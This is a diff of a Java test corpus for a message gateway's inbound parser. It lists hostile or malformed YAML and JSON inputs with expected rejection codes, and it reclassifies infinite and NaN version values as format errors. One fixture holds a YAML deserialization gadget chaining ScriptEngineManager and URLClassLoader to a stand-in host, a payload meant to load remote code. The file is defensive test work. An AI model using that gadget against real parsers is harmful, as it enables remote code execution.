@@ -1,7 +1,6 @@
 package io.liaison.gateway.inbound.corpus;
 
 import static io.liaison.gateway.inbound.ReasonCode.FORMAT_INVALID;
-import static io.liaison.gateway.inbound.ReasonCode.INTERNAL_ERROR;
 import static io.liaison.gateway.inbound.ReasonCode.MALFORMED_MIME;
 import static io.liaison.gateway.inbound.ReasonCode.OVERSIZED_MESSAGE;
 import static io.liaison.gateway.inbound.ReasonCode.OVERSIZED_PART;
@@ -105,9 +104,9 @@ final class BombCases implements CorpusCategory {
                 }),
                 yaml("yaml-duplicate-keys", FORMAT_INVALID, null, m -> m.ack() + "tlp: TLP:RED\ntlp: TLP:CLEAR\n"),
                 yaml("yaml-arbitrary-type-tag", FORMAT_INVALID, null, m -> m.ack() + "extra: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n"),
-                yaml("yaml-version-infinite", INTERNAL_ERROR, "liaison: .inf\ntype: acknowledgement\n")
-                        .finding("FORMAT_INVALID: 'liaison: .inf' (or 1e999) makes the parser throw NumberFormatException, quarantined as"
-                                + " an internal error"),
+                yaml("yaml-version-infinite", FORMAT_INVALID, "liaison: .inf\ntype: acknowledgement\n"),
+                yaml("yaml-version-not-a-number", FORMAT_INVALID, "liaison: .nan\ntype: acknowledgement\n"),
+                yaml("yaml-version-beyond-double", FORMAT_INVALID, "liaison: 1.0e+999\ntype: acknowledgement\n"),
                 json("json-duplicate-tlp-keys", accepted(), m -> "{\"liaison\": 1, \"type\": \"acknowledgement\", \"reference\": \""
                         + m.reference + "\", \"tlp\": \"TLP:RED\", \"tlp\": \"TLP:CLEAR\", \"note\": \"json-dup-tlp\"}")
                         .finding("FORMAT_INVALID: JSON with duplicate keys is accepted (last one wins) where YAML refuses (issue 12)"),
